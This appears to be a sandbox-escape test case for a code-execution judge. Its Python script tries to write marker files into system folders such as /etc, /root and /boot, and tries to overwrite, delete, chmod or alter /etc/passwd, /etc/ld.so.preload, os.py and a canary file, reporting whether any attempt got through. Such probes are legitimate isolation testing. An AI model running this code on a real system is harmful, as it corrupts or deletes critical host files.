#: tries: writes into files that belong to the host
#: task: door
#: verdict: wrong_answer runtime_error
#: harms: writes into files of the host

import os
import sys

done = 0
folders = ["/etc", "/usr/bin", "/usr/lib", "/root", "/home", "/var/tmp", "/run", "/dev", "/dev/shm", "/sys", "/proc/sys"]
folders += [os.path.dirname(os.__file__), os.path.dirname(sys.executable), "/opt", "/srv", "/boot", "/mnt"]
for folder in folders:
    for mode in ("x", "a"):
        try:
            with open(folder + "/" + MARK, mode) as file:
                file.write("x")
                done += folder != "/dev/shm"  # which is the scratch folder of a cell
        except OSError:
            pass
for path in (CANARY_FILE, os.__file__, "/etc/passwd", "/etc/ld.so.preload"):
    for act in (lambda p: open(p, "r+").write("x"), os.unlink, lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0))):
        try:
            act(path)
            done += 1
        except OSError:
            pass
print("open" if done else "shut")
